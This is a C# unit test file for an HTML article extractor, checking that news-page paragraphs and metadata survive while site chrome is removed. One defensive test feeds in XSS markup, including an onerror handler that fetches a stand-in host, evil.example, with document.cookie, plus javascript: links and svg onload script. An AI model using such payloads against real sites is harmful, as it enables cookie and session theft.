using System.Text;
using Dossier.Cleaning;

namespace Dossier.Tests.Cleaning;

public sealed class HtmlBodyTests
{
    private const string First = "The harbour authority said on Monday that the northern quay, closed since the storm in January, would reopen to container ships next week.";
    private const string Second = "Repairs to the breakwater cost 4.2 million euros, the authority said, and dredging of the channel will continue until the end of the summer.";
    private const string Third = "Fishermen, who had been moored at the southern basin for three months, welcomed the decision but asked for lower mooring fees.";

    private static string Page(string article, string chrome = "") => $$"""
        <!DOCTYPE html>
        <html lang="en">
        <head>
          <title>Northern quay to reopen | Coast Gazette</title>
          <meta property="og:title" content="Northern quay to reopen after storm repairs">
          <meta property="article:published_time" content="2024-03-05T09:30:00+01:00">
          <link rel="canonical" href="https://gazette.example/2024/03/05/quay">
          <style>p { color: red }</style>
          <script>window.tracker = { page: "quay" };</script>
        </head>
        <body>
          <header class="site-header"><a href="/">Coast Gazette</a><nav><a href="/news">News</a> <a href="/sport">Sport</a></nav></header>
          <div id="cookie-banner"><p>We use cookies to improve your experience, to measure audience and to show you relevant offers.</p><button>Accept</button></div>
          <main>
            {{article}}
          </main>
          {{chrome}}
          <aside><h3>Most read</h3><p>Lighthouse keeper retires after forty years, the last on the coast, and leaves his lamp to the museum.</p></aside>
          <footer><p>© Coast Gazette 2024. All rights reserved, including the right to reproduce this page, in whole or in part.</p></footer>
        </body>
        </html>
        """;

    private static string Article(string extra = "") => $"""
        <article>
          <h1>Northern quay to reopen after storm repairs</h1>
          <p>{First}</p>
          {extra}
          <p>{Second}</p>
          <p>{Third}</p>
        </article>
        """;

    [Fact]
    public void The_article_paragraphs_are_kept_in_order_without_the_site_chrome()
    {
        var (paragraphs, _) = HtmlBody.Read(Page(Article()));

        Assert.Equal([First, Second, Third], paragraphs);
    }

    [Fact]
    public void The_page_declares_its_title_date_language_and_address()
    {
        var (_, page) = HtmlBody.Read(Page(Article()));

        Assert.Equal(new PageFacts("Northern quay to reopen after storm repairs", "2024-03-05T09:30:00+01:00", "en", "https://gazette.example/2024/03/05/quay"), page);
    }

    [Fact]
    public void Without_meta_tags_the_title_is_the_h1_and_the_date_comes_from_json_ld()
    {
        const string html = """
            <html><head><script type="application/ld+json">{"@context": "https://schema.org", "@graph": [{"@type": "WebPage"}, {"@type": "NewsArticle", "datePublished": "2024-03-05"}]}</script></head>
            <body><h1>Quay reopens</h1><p>The quay reopens, the authority said, after three months of repairs to the breakwater.</p></body></html>
            """;

        var (_, page) = HtmlBody.Read(html);

        Assert.Equal("Quay reopens", page.Title);
        Assert.Equal("2024-03-05", page.Published);
    }

    [Fact]
    public void A_time_element_gives_the_date_when_nothing_else_does()
    {
        var (_, page) = HtmlBody.Read("<html><body><article><time datetime=\"2024-03-05T08:00\">5 March</time><p>Body.</p></article></body></html>");

        Assert.Equal("2024-03-05T08:00", page.Published);
    }

    [Fact]
    public void Broken_json_ld_is_ignored()
    {
        var (_, page) = HtmlBody.Read("<html><head><script type=\"application/ld+json\">{\"datePublished\": </script></head><body><p>Body.</p></body></html>");

        Assert.Null(page.Published);
    }

    [Theory]
    [InlineData("<div class=\"share-buttons\"><p>Share this story with your friends, family, colleagues and neighbours today.</p></div>")]
    [InlineData("<section class=\"related-articles\"><p>Storm damage: the full list of closed roads, bridges and ferry lines this week.</p></section>")]
    [InlineData("<div id=\"comments\"><p>Great news, finally, after all these months of waiting, said a reader from the harbour.</p></div>")]
    [InlineData("<div class=\"newsletterSignup\"><p>Get the Gazette in your inbox every morning, with the tides, the weather and the news.</p></div>")]
    [InlineData("<div role=\"complementary\"><p>Advertisement feature: the best seafood restaurants on the coast, rated by readers.</p></div>")]
    [InlineData("<div style=\"display: none\"><p>Hidden text for search engines only, repeating the headline, the keywords and the date.</p></div>")]
    [InlineData("<form action=\"/subscribe\"><p>Subscribe now and get three months of unlimited reading at half the price.</p><input name=\"email\"></form>")]
    public void Chrome_blocks_inside_the_article_are_removed(string chrome)
    {
        var (paragraphs, _) = HtmlBody.Read(Page(Article(chrome)));

        Assert.Equal([First, Second, Third], paragraphs);
    }

    [Fact]
    public void Chrome_beside_the_article_is_not_chosen_over_it()
    {
        var teasers = string.Concat(Enumerable.Range(1, 8).Select(i => $"<li><a href=\"/story/{i}\">Teaser headline number {i} about another story on the coast</a></li>"));

        var (paragraphs, _) = HtmlBody.Read(Page(Article(), $"<div class=\"sidebar\"><ul>{teasers}</ul></div><ul class=\"links\">{teasers}</ul>"));

        Assert.Equal([First, Second, Third], paragraphs);
    }

    [Fact]
    public void A_read_more_paragraph_and_a_photo_credit_left_in_the_body_are_dropped()
    {
        var extra = "<p>Read more: <a href=\"/storm\">How the January storm hit the coast</a></p><p>Photo: Reuters</p>";

        var (paragraphs, _) = HtmlBody.Read(Page(Article(extra)));

        Assert.Equal([First, Second, Third], paragraphs);
    }

    [Fact]
    public void Text_directly_inside_a_div_with_line_breaks_is_read_as_paragraphs()
    {
        var html = $"<html><body><div class=\"menu\"><a href=\"/\">Home</a></div><div class=\"post-body\">{First}<br>{Second}<div class=\"inline-ad\"></div>{Third}</div></body></html>";

        var (paragraphs, _) = HtmlBody.Read(html);

        Assert.Equal([First, Second, Third], paragraphs);
    }

    [Fact]
    public void A_page_wrapped_in_one_form_keeps_its_article()
    {
        var (paragraphs, _) = HtmlBody.Read($"<html><body><form id=\"aspnetForm\"><div class=\"story\"><p>{First}</p><p>{Second}</p></div></form></body></html>");

        Assert.Equal([First, Second], paragraphs);
    }

    [Fact]
    public void An_article_element_named_with_taxonomy_classes_is_kept()
    {
        var html = $"<html><body><div class=\"widget\"><p>{Third}</p></div><article class=\"post tag-share category-news\"><p>{First}</p><p>{Second}</p></article></body></html>";

        var (paragraphs, _) = HtmlBody.Read(html);

        Assert.Equal([First, Second], paragraphs);
    }

    [Fact]
    public void Untrusted_markup_comes_out_as_plain_text_only()
    {
        var hostile = $"""
            <p onclick="alert('x')">{First}<img src="x" onerror="fetch('https://evil.example/?c=' + document.cookie)"></p>
            <script>document.write('<p>injected paragraph from a script</p>')</script>
            <p><a href="javascript:alert(1)" onmouseover="steal()">{Second}</a> and more words to keep the link share low.</p>
            <svg onload="alert(2)"><text>svg text</text></svg>
            <iframe srcdoc="&lt;script&gt;alert(3)&lt;/script&gt;"></iframe>
            <style>@import url(https://evil.example/x.css);</style>
            <p>{Third} &lt;script&gt;alert(4)&lt;/script&gt;</p>
            """;

        var (paragraphs, _) = HtmlBody.Read(Page(Article(hostile)));
        var text = string.Join('\n', paragraphs);

        Assert.Contains(First, text, StringComparison.Ordinal);
        Assert.DoesNotContain("alert(1)", text, StringComparison.Ordinal);
        Assert.DoesNotContain("onerror", text, StringComparison.Ordinal);
        Assert.DoesNotContain("injected", text, StringComparison.Ordinal);
        Assert.DoesNotContain("svg text", text, StringComparison.Ordinal);
        Assert.DoesNotContain("evil.example", text, StringComparison.Ordinal);
        Assert.DoesNotContain("<", text.Replace("<script>alert(4)</script>", "", StringComparison.Ordinal), StringComparison.Ordinal);
        // Escaped markup in the text is text: it stays, as characters, never as an element.
        Assert.Contains("<script>alert(4)</script>", text, StringComparison.Ordinal);
    }

    [Fact]
    public void A_page_nested_thousands_of_levels_deep_is_read_without_overflowing()
    {
        // Deeper pages are refused by the reader (MarkupDepth); this is the deepest cleaning sees.
        const int depth = 5_000;
        var html = new StringBuilder("<html><body>");
        html.Insert(html.Length, "<div>", depth).Append("<p>").Append(First).Append("</p>").Insert(html.Length, "</div>", depth).Append("</body></html>");

        var (paragraphs, _) = HtmlBody.Read(html.ToString());

        Assert.Contains(First, paragraphs);
    }

    [Fact]
    public void A_page_without_a_body_gives_no_paragraphs()
    {
        var (paragraphs, _) = HtmlBody.Read("<html><head><title>Only a title</title></head></html>");

        Assert.Empty(paragraphs);
    }

    [Fact]
    public void A_body_cut_into_sections_by_the_template_is_read_whole()
    {
        var html = $"""
            <html><body>
              <div class="wrap"><div class="post__content"><p>{First}</p><p>{Second}</p></div></div>
              <blockquote class="pullquote">Reopen to container ships</blockquote>
              <div class="wrap"><div class="post__content"><p>{Third}</p></div></div>
              <div class="promo-strip"><p>Listen to our podcast about harbours, ships and the sea, every Friday.</p></div>
            </body></html>
            """;

        var (paragraphs, _) = HtmlBody.Read(html);

        Assert.Equal([First, Second, Third], paragraphs);
    }

    [Fact]
    public void Paragraphs_directly_in_the_body_are_read_without_the_head()
    {
        var (paragraphs, _) = HtmlBody.Read($"<html><head><title>Head title, not body text</title></head><body><p>{First}</p><p>{Second}</p></body></html>");

        Assert.Equal([First, Second], paragraphs);
    }
}
